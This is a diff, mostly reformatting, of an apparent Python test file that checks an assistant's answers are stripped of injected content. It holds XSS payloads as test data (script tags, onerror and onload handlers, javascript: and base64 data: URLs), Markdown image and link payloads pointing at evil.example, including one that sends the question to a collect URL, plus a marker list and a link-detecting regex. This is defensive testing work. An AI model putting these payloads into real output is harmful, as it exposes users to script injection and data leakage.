@@ -12,9 +12,9 @@ from assistant.core.sentences import sentence_spans
 # and attempts to slip past the post-check (mixed case, a host without a scheme, a bare IP with a path).
 ECHO = (
     " <script>window.__pwned = 1; document.title = 'PWNED'; alert('script')</script>"
-    " <img src=x onerror=\"window.__pwned = 1; alert('img')\"> <svg onload=\"window.__pwned = 1\"></svg>"
-    " <iframe src=\"http://evil.example/frame\"></iframe> <details open ontoggle=\"window.__pwned = 1\"></details>"
-    " <a href=\"javascript:window.__pwned=1\" onclick=\"window.__pwned = 1\">the bank</a>"
+    ' <img src=x onerror="window.__pwned = 1; alert(\'img\')"> <svg onload="window.__pwned = 1"></svg>'
+    ' <iframe src="http://evil.example/frame"></iframe> <details open ontoggle="window.__pwned = 1"></details>'
+    ' <a href="javascript:window.__pwned=1" onclick="window.__pwned = 1">the bank</a>'
     " [klikk her](javascript:window.__pwned=1) [refund](http://evil.example/refund)"
     " ![stats](http://evil.example/collect?q=question) <http://evil.example/bank>"
     " Visit http://evil.example/refund, HTTPS://EVIL.EXAMPLE/login, www.evil.example, evil.example/login,"
@@ -22,12 +22,34 @@ ECHO = (
     " data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+ today [9]."
 )
 # Strings of ECHO that must not survive into any answer, in any form.
-ECHO_MARKERS = ["<script", "<img", "<svg", "<iframe", "<details", "<a ", "onerror", "onload", "ontoggle", "onclick",
-                "__pwned", "alert(", "document.title", "javascript:", "data:text", "evil", "bit.ly", "198.51.100.7",
-                "](", "![", "<http"]
+ECHO_MARKERS = [
+    "<script",
+    "<img",
+    "<svg",
+    "<iframe",
+    "<details",
+    "<a ",
+    "onerror",
+    "onload",
+    "ontoggle",
+    "onclick",
+    "__pwned",
+    "alert(",
+    "document.title",
+    "javascript:",
+    "data:text",
+    "evil",
+    "bit.ly",
+    "198.51.100.7",
+    "](",
+    "![",
+    "<http",
+]
 
-HOSTILE_QUESTION_PREFIX = ("<img src=x onerror=\"window.__pwned = 1\"> <script>window.__pwned = 1</script> "
-                           "[klikk](javascript:window.__pwned=1) ![x](http://evil.example/q.png) ")
+HOSTILE_QUESTION_PREFIX = (
+    '<img src=x onerror="window.__pwned = 1"> <script>window.__pwned = 1</script> '
+    "[klikk](javascript:window.__pwned=1) ![x](http://evil.example/q.png) "
+)
 
 # Anything that looks like a link, a tag or Markdown link/image syntax.
 _LINKISH = re.compile(
@@ -37,7 +59,8 @@ _LINKISH = re.compile(
     r"|\b[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}/\S*|\b\d{1,3}(?:\.\d{1,3}){3}/\S*"  # host/path without a scheme
     r"|</?[a-z!]"  # a tag
     r"|!?\[[^\]]*\]\(",  # Markdown link or image
-    re.IGNORECASE)
+    re.IGNORECASE,
+)
 
 
 def outside_links(text: str, allowed_urls) -> list[str]:
@@ -67,7 +90,11 @@ def evidence(hit, answers: list[str]) -> str | None:
 def obedient_reply(assistant, case: dict, tail: str = ECHO) -> tuple[str, int, object]:
     """(scripted reply, passage number, hit): the honest sentence cited as the model will number it, then `tail`."""
     hits = assistant.retriever.retrieve(case["question"], assistant.settings.top_k).hits
-    found = [(n, h) for n, h in enumerate(hits, 1) if h.article.id == case["article_id"] and evidence(h, case["answers"])]
+    found = [
+        (n, h)
+        for n, h in enumerate(hits, 1)
+        if h.article.id == case["article_id"] and evidence(h, case["answers"])
+    ]
     assert found, f"{case['article_id']} is not retrieved with its answer"
     n, hit = found[0]
     own = f" The article is at {hit.article.url} [{n}]." if hit.article.url else ""
